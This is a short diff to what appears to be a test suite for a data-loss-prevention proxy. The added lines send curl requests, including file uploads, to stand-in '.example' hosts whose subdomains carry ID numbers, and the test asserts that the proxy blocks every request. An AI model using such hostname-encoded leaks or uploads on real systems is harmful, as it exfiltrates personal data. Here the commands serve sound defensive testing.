@@ -57,6 +57,12 @@ def test_no_identifier_of_a_leak_is_kept_or_shown_anywhere(
             curl(f"{user}-{query}", "-T", "{file}", proxy=proxy.listen),
             curl(f"{user}-{query}", "-T", "{file}", "-p", proxy=proxy.listen),
         ]
+    for number in (nirs[0], nirs[-1], spaced[1].replace(" ", "-")):
+        url = f"http://nir-{number}.{name}.example"
+        answers += [
+            curl(f"{url}/", proxy=proxy.listen),
+            curl(f"{url}/", "-T", "{file}", proxy=proxy.listen, send=leak),
+        ]
     assert all(answer.status in (403, 503, 550, 552, 553) for answer in answers)
 
     incidents = proxy.dlp("incident", "list").stdout
